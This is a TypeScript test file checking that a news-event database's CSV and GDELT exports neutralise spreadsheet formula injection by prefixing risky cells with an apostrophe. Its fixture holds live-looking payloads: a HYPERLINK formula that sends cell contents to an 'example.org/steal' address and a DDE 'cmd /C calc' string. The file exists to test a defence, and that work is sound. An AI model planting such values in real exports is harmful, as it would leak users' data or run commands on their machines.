import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import type { Store } from '../../store/store.ts';
import { spreadsheetSafe } from './spreadsheet-safe.ts';
import { storeBackends } from '../../../test/support/store-backends.ts';
import { handMadeArticle } from '../../../test/support/hand-made-records.ts';
import { exportedText } from '../../../test/support/exported-text.ts';

const [pglite] = storeBackends();

/** An article whose header and names carry what a spreadsheet would run as formulas. */
function hostileArticle() {
  const { article, record } = handMadeArticle('Georgia and Armenia held talks in Tbilisi on trade and transit.', '2025-05-02', {
    entities: [
      { id: 'c1', type: 'country', name: 'Georgia', code: 'GEO' },
      { id: 'c2', type: 'country', name: 'Armenia', code: 'ARM' },
      { id: 'p1', type: 'person', name: '=HYPERLINK("http://example.org/steal?d="&A1,"details")', country: 'GEO', roles: [{ title: 'Prime Minister', country: 'GEO' }] },
      { id: 'p2', type: 'person', name: '@SUM(1+1)*cmd|\' /C calc\'!A0', country: 'ARM', roles: [{ title: 'Prime Minister', country: 'ARM' }] },
      { id: 'pl1', type: 'place', name: '+1+1', kind: 'city', country: 'GEO' },
      { id: 'i1', type: 'instrument', name: '-2+3', kind: 'agreement', status: 'signed', parties: ['GEO', 'ARM'] },
    ],
    events: [{ id: 'e1', type: 'meeting', date: '2025-05-01', participants: ['p1', 'p2', 'c1', 'c2'], place: 'pl1', instruments: ['i1'], cameo: '040' }],
  });
  const header = { title: '=1+1', outlet: '\tTab Outlet', source: '@https://example.org/report' };
  return { article: { ...article, ...header }, record: { ...record, document: { ...record.document, ...header } } };
}

/** A cell a spreadsheet would run: a formula sign first, or a minus that does not start a number. */
function runnable(cell: string): boolean {
  return /^[=+@\t\r]/.test(cell) || (cell.startsWith('-') && Number.isNaN(Number(cell)));
}

describe('exports opened in a spreadsheet', () => {
  let store: Store;
  before(async () => {
    ({ store } = await pglite.freshStore());
    await store.saveDocuments([hostileArticle()]);
  });
  after(async () => {
    await store.close();
    await pglite.dispose();
  });

  test('a text starting with = + - @, a tab or a carriage return is written after an apostrophe; numbers are left alone', () => {
    assert.equal(spreadsheetSafe('=1+1'), "'=1+1");
    assert.equal(spreadsheetSafe('-2+3'), "'-2+3");
    assert.equal(spreadsheetSafe('\r=cmd'), "'\r=cmd");
    assert.equal(spreadsheetSafe('Baku'), 'Baku');
    assert.equal(spreadsheetSafe('O+M agreement'), 'O+M agreement');
  });

  test('no cell of any CSV table can run as a formula, and each hostile value comes back whole after its apostrophe', async () => {
    const tables = await exportedText(store, 'csv');
    const cells: string[] = [];
    for (const [name, text] of tables) {
      const rows = parse(text, { relax_column_count: false }) as string[][];
      for (const row of rows) for (const cell of row) {
        assert.ok(!runnable(cell), `${name}: ${JSON.stringify(cell)}`);
        cells.push(cell);
      }
    }
    for (const expected of ["'=HYPERLINK(\"http://example.org/steal?d=\"&A1,\"details\")", "'+1+1", "'-2+3", "'=1+1", "'\tTab Outlet", "'@https://example.org/report"]) {
      assert.ok(cells.includes(expected), `${JSON.stringify(expected)} is in the tables`);
    }
  });

  test('no text cell of the GDELT table can run as a formula', async () => {
    const text = (await exportedText(store, 'gdelt')).get('events.tsv') ?? '';
    const rows = text.trim().split('\n').map((line) => line.split('\t'));
    assert.equal(rows.length, 2);
    for (const cell of rows.flat()) assert.ok(!runnable(cell), JSON.stringify(cell));
    assert.ok(rows[1].includes("'@https://example.org/report"));
    assert.ok(rows[1].includes("'+1+1"));
  });
});
